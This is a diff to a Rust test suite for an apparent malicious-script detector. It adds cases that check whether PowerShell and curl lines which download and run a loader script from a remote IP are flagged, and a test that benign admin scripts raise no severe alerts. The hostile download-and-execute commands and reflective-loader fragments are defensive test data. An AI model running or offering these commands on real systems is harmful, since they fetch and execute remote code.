@@ -203,6 +203,11 @@ fn the_loader_is_told_by_its_shape_and_by_its_name() {
     );
     script("iex (irm http://203.0.113.7/icsnd16_64refl.ps1)", &[9_403_001, 9_403_003]);
     command("powershell -f C:\\temp\\icbt11801_64refl.ps1", &[9_403_001]);
+    command("curl -O http://203.0.113.7/icsnd16_64refl.ps1", &[9_403_001]);
+    script("(New-Object Net.WebClient).DownloadFile('http://203.0.113.7/icsnd16_64refl.ps1', 'a.ps1')", &[9_403_001]);
+    script(r"& \\host\share\icsnd16_64refl.ps1", &[9_403_001]);
+    script("The loader is named icsnd16_64refl.ps1 or so", &[]);
+    command("echo icsnd16_64refl.ps1", &[]);
     script("$b=[Convert]::FromBase64String($p); $d=New-Object IO.Compression.DeflateStream($m,0)", &[]);
     script("[Runtime.InteropServices.Marshal]::GetDelegateForFunctionPointer($a,$t)", &[]);
     script("# FromBase64String DeflateStream GetDelegateForFunctionPointer", &[]);
@@ -354,4 +359,33 @@ fn the_worst_texts_take_linear_time() {
             }
         }
     }
+}
+
+/// Scripts of administrators: those that the content rules are tested with, and all below the folder that
+/// `BACKSTOP_BENIGN_SCRIPTS` names (nothing of it is committed).
+#[test]
+fn benign_scripts_raise_no_severe_alert() {
+    let shipped = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../signatures/tests/samples/benign");
+    let mut folders = vec![shipped];
+    folders.extend(std::env::var_os("BACKSTOP_BENIGN_SCRIPTS").map(std::path::PathBuf::from));
+    let mut seen = 0;
+    while let Some(folder) = folders.pop() {
+        for entry in std::fs::read_dir(folder).unwrap() {
+            let path = entry.unwrap().path();
+            if path.is_dir() {
+                folders.push(path);
+                continue;
+            }
+            let bytes = std::fs::read(&path).unwrap();
+            seen += 1;
+            for kind in [Kind::Unknown, Kind::Script] {
+                let unfolding = unfold(&bytes, kind, super::NAMES, &ContentConfig::default());
+                let severe = conditions(&unfolding).into_iter().filter(|told| told.severity.unwrap_or(told.meta.severity) < 3);
+                let severe: Vec<_> = severe.map(|told| (told.meta.sid, told.evidence)).collect();
+                assert!(severe.is_empty(), "{} {kind:?}: {severe:?}", path.display());
+            }
+        }
+    }
+    assert!(seen >= 15, "{seen}");
+    eprintln!("{seen} scripts");
 }
